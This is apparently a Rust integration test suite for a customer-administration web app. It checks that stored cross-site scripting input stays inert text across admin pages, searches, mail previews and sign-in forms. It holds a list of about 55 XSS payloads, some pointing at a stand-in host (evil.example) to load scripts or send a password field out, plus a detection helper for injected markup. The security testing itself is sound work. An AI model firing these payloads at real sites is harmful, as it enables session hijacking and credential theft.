//! What a stranger typed somewhere is text everywhere, and nothing else.

use std::collections::BTreeMap;

use keydesk::customers::create::{NewAddress, NewCustomer, create};
use keydesk::customers::{CustomerId, State};
use keydesk::db::schema::customers;
use keydesk::events::By;
use keydesk::resets::Purpose;
use keydesk::staff::roles::Role;

use diesel::prelude::*;

use crate::harness::{Page, TestApp};

const POLYGLOTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "\" accesskey=\"x\" onclick=\"alert(1)\" x=\"",
    "x onmouseover=alert(1) y",
    "`><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)//",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "<body onload=alert(1)>",
    "<form action=https://evil.example><input name=password>",
    "<button formaction=https://evil.example>x</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<x contenteditable onblur=alert(1)>x",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "\u{2028}<script>alert(1)</script>\u{2029}",
    "\u{202e}<script>alert(1)</script>",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% for i in (1..9) %}{{ i }}{% endfor %}{{ 7 | times: 7 }}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "＜script＞alert(1)＜/script＞",
];

/// Somebody with this text wherever there is room for text, and a link that was asked for with it.
async fn somebody(app: &TestApp, text: &str, nr: usize) -> CustomerId {
    let new = NewCustomer {
        company: text.into(),
        email: format!("nr{nr}@example.com").parse().unwrap(),
        first_name: text.into(),
        last_name: format!("Nr{nr}"),
        phone: format!("{text} 0123"),
        number: Some(format!("{text} {nr}")),
        locale: text.into(),
        time_zone: text.into(),
    };
    let home = NewAddress {
        label: text.into(),
        first_name: text.into(),
        last_name: String::new(),
        company: text.into(),
        street: text.into(),
        extra: text.into(),
        postal_code: text.into(),
        city: text.into(),
        region: text.into(),
        country: text.into(),
        phone: text.into(),
        is_default: true,
        is_default_billing: true,
    };
    let (account, now) = (app.account, app.now());
    let id = app.write(move |conn| {
        let id = create(conn, account, &new, &[home], &By::system(), now).unwrap();
        diesel::update(customers::table.find(id)).set(customers::state.eq(State::Active)).execute(conn).unwrap();
        id
    });
    let id = id.await;
    let application = app.application(account, &format!("{text} {nr}")).await;
    app.link(account, id, Purpose::Reset, Some(application), text).await;
    id
}

/// How often each element and each attribute occurs.
fn shape(page: &Page) -> BTreeMap<String, usize> {
    let mut counts = BTreeMap::new();
    for element in page.html().root_element().descendants().filter_map(scraper::ElementRef::wrap) {
        let name = element.value().name();
        *counts.entry(format!("<{name}>")).or_default() += 1;
        for (attribute, _) in element.value().attrs() {
            *counts.entry(format!("<{name} {attribute}>")).or_default() += 1;
        }
    }
    counts
}

fn flat(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn in_a_query(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

#[actix_web::test]
async fn a_59_stored_xss_is_text_on_every_page() {
    assert!(POLYGLOTS.len() >= 50);
    let app = TestApp::start().await;
    let owner = app.signed_in(Role::Owner).await;
    let plain = somebody(&app, "Plain", 0).await;
    let pages = ["", "/edit", "/reset", "/disable", "/unlock", "/sign-out"];
    let mut plain_shapes = Vec::new();
    for page in pages {
        plain_shapes.push(shape(&owner.get(&app.admin(&format!("/customers/{plain}{page}"))).await));
    }
    for (i, text) in POLYGLOTS.iter().enumerate() {
        // An application each would make the form of a reset longer and longer.
        app.execute("UPDATE resets SET application_id = NULL").await;
        app.execute("UPDATE messages SET application_id = NULL").await;
        app.execute("DELETE FROM applications").await;
        let id = somebody(&app, text, i + 1).await;
        let name = flat(&format!("{text} Nr{}", i + 1));
        for (page, plain_shape) in pages.iter().zip(&plain_shapes) {
            let at = app.admin(&format!("/customers/{id}{page}"));
            let found = owner.get(&at).await;
            assert_eq!(found.status, 200, "{at} {}", found.text());
            assert_eq!(&shape(&found), plain_shape, "{at}: {text}");
            if *page == "/edit" {
                assert_eq!(found.attributes("input[name=first_name]", "value"), [*text]);
            } else {
                assert!(flat(&found.text()).contains(&name), "{at}: {name} in {}", found.text());
            }
        }
        let shown = owner.get(&app.admin(&format!("/customers/{id}"))).await;
        assert_eq!(shown.one("h1"), name);
        assert_eq!(shown.all("address bdi").iter().filter(|line| **line == flat(text)).count(), 7, "{text}");
        assert!(shown.text().matches(&flat(text)).count() > 10, "phone, number, note, address: {}", shown.text());
    }
}

#[actix_web::test]
async fn a_59_stored_xss_is_text_in_lists_and_searches() {
    let app = TestApp::start().await;
    let owner = app.signed_in(Role::Owner).await;
    for (i, text) in POLYGLOTS.iter().enumerate() {
        somebody(&app, text, i + 1).await;
    }
    let list = owner.get(&app.admin("/customers?view=all&size=100")).await;
    let (mut shown, mut stored) = (list.all("tbody th"), Vec::new());
    stored.extend(POLYGLOTS.iter().enumerate().map(|(i, text)| flat(&format!("{text} Nr{}", i + 1))));
    shown.sort();
    stored.sort();
    assert_eq!(shown, stored);
    for page in ["/customers?view=all&size=100", "/applications", "/messages"] {
        harmless(&owner.get(&app.admin(page)).await);
    }
    for (i, text) in POLYGLOTS.iter().enumerate() {
        let found = owner.get(&app.admin(&format!("/customers?view=all&q={}", in_a_query(text)))).await;
        assert_eq!(found.status, 200, "{text}");
        harmless(&found);
        let typed: String = text.trim().chars().take(100).collect();
        assert_eq!(found.attributes("input[name=q]", "value"), [typed]);
        if text.chars().count() <= 100 && !text.contains('\u{202e}') {
            let name = flat(&format!("{text} Nr{}", i + 1));
            assert!(found.all("tbody th").contains(&name), "{text} finds {:?}", found.all("tbody th"));
        }
    }
}

/// One script, ours; nothing that runs or loads.
fn harmless(page: &Page) {
    assert_eq!(page.all("script").len(), 1, "{}", page.path);
    assert!(page.attributes("script", "src")[0].starts_with("/assets/"));
    assert!(!page.has("img, iframe, object, embed, base, style, video, source, math, template, noscript"));
    let shape = shape(page);
    let bad = shape.keys().find(|key| key.contains(" on") || key.contains(" style") || key.contains(" formaction"));
    assert_eq!(bad, None, "{}", page.path);
    for address in page.attributes("[href], [action]", "href") {
        assert!(["/", "#", "tel:+"].iter().any(|start| address.starts_with(start)), "{address}");
    }
}

#[actix_web::test]
async fn a_59_stored_xss_is_text_in_the_preview_of_a_mail() {
    let app = TestApp::start().await;
    let owner = app.signed_in(Role::Owner).await;
    let plain = somebody(&app, "Plain", 0).await;
    let mail_of = |id: CustomerId| {
        let page = app.admin(&format!("/customers/{id}"));
        let owner = owner.clone();
        async move {
            let shown = owner.get(&page).await;
            let mail = shown.attributes("a[href*='/messages/']", "href");
            (owner.get(&mail[0]).await, owner.get(&format!("{}/html", mail[0])).await)
        }
    };
    let (page, html) = mail_of(plain).await;
    for (i, text) in POLYGLOTS.iter().enumerate() {
        let id = somebody(&app, text, i + 1).await;
        let (hostile_page, hostile_html) = mail_of(id).await;
        assert_eq!(shape(&hostile_page), shape(&page), "{text}");
        assert_eq!(shape(&hostile_html), shape(&html), "{text}");
        assert!(hostile_page.text().contains(&flat(text)), "{text}");
        if html.text().contains("Plain") {
            assert!(hostile_html.text().contains(&flat(text)), "{text} in {}", hostile_html.text());
        }
    }
}

#[actix_web::test]
async fn a_59_what_staff_typed_comes_back_as_text_in_problems_and_banners() {
    let app = TestApp::start().await;
    let owner = app.signed_in(Role::Owner).await;
    let id = app.carla().await;
    let edit = app.admin(&format!("/customers/{id}/edit"));
    // Each third: the form names every time zone there is, and reading it takes long.
    for text in POLYGLOTS.iter().filter(|text| text.chars().count() < 100).step_by(3) {
        let page = owner.get(&edit).await;
        let fields = [("first_name", *text), ("email", "no address")];
        let refused = owner.submit(&page, "/edit", &fields).await;
        assert_eq!(refused.status, 422);
        harmless(&refused);
        assert_eq!(refused.attributes("input[name=first_name]", "value"), [*text]);
        let saved = owner.finish(&page, "/edit", &[("first_name", text)]).await;
        harmless(&saved);
        assert!(saved.one("[role=status]").contains(&flat(text)), "{text}");
    }
    for text in POLYGLOTS {
        let refused =
            owner.submit(&owner.get("/sign-in").await, "/sign-in", &[("email", text), ("password", "x")]).await;
        harmless(&refused);
        assert_eq!(refused.attributes("input[name=email]", "value"), [*text]);
        let next = owner.get(&format!("/sign-in?next={}", in_a_query(text))).await;
        harmless(&next);
        assert_eq!(next.attributes("input[name=next]", "value"), [*text]);
    }
}
